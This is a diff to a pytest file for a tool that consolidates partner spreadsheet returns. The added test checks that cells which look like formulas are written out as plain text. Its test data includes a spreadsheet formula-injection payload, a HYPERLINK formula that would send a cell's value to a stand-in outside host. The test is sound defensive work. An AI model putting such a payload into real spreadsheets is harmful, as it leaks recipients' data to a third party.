@@ -148,3 +148,25 @@ def test_output_open_in_excel_is_refused_plainly(tmp_path: Path) -> None:
     (tmp_path / "~$out.xlsx").write_bytes(b"lock")
     with pytest.raises(UsageError, match="open in Excel"):
         run_consolidation([tmp_path], out, AS_OF, RULES, None)
+
+
+def test_partner_text_that_looks_like_a_formula_stays_text(tmp_path: Path) -> None:
+    import zipfile
+
+    folder = tmp_path / "returns"
+    folder.mkdir()
+    hostile = '=HYPERLINK("http://example.invalid/?d="&B2,"details")'
+    _return(folder / "a.xlsx", "Agency A", [
+        {"action": "@SUM(1+1) see notes", "owner": "+44 7700 900123",
+         "due": date(2026, 1, 31), "comment": hostile}])
+    out = tmp_path / "out.xlsx"
+    run_consolidation([folder], out, AS_OF, RULES, None)
+    actions = _sheet(out, "Actions")
+    col = {t: actions[0].index(t) for t in actions[0]}
+    assert actions[1][col["Comment"]] == hostile
+    assert actions[1][col["Action"]] == "@SUM(1+1) see notes"
+    assert actions[1][col["Owner"]] == "+44 7700 900123"
+    with zipfile.ZipFile(out) as package:
+        for name in package.namelist():
+            if name.startswith("xl/worksheets/"):
+                assert b"<f>" not in package.read(name), name
